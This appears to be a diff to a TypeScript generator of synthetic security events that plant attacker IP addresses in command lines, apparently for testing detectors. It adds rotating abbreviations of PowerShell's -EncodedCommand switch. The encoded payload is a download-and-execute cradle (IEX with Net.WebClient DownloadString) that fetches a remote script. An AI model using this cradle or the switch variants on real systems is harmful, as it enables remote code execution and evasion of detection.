@@ -55,7 +55,10 @@ function utf16Base64(text: string): string {
   return Buffer.from(text, 'utf16le').toString('base64');
 }
 
-function renderAddress(p: Planted, form: AddressForm): string {
+// PowerShell accepts any unambiguous abbreviation of -EncodedCommand, with - or /.
+const ENCODED_SWITCHES = ['-EncodedCommand', '-enc', '-e', '-ec', '-EncodedC', '/enc'];
+
+function renderAddress(p: Planted, form: AddressForm, variant: number): string {
   if (form === 'ipv6') return p.v6!;
   const [a, b, c, d] = p.v4!;
   const dotted = `${a}.${b}.${c}.${d}`;
@@ -78,7 +81,7 @@ function renderAddress(p: Planted, form: AddressForm): string {
     case 'octal':
       return [a, b, c, d].map((o) => `0${o!.toString(8)}`).join('.');
     case 'encoded':
-      return `-EncodedCommand ${utf16Base64(`IEX (New-Object Net.WebClient).DownloadString('http://${dotted}/s.ps1')`)}`;
+      return `${ENCODED_SWITCHES[variant % ENCODED_SWITCHES.length]} ${utf16Base64(`IEX (New-Object Net.WebClient).DownloadString('http://${dotted}/s.ps1')`)}`;
   }
 }
 
@@ -125,7 +128,7 @@ export function generateSecurityEvents(options: GenerateOptions): GeneratedSampl
       const address = candidates[Math.floor(random() ** 2 * candidates.length)]!;
       planted.add(address.normalized);
       path = p;
-      commandLine = template.replace('{ip}', renderAddress(address, form));
+      commandLine = template.replace('{ip}', renderAddress(address, form, int(0, 1000)));
     } else {
       const [p, template] = pick(BENIGN);
       path = p;
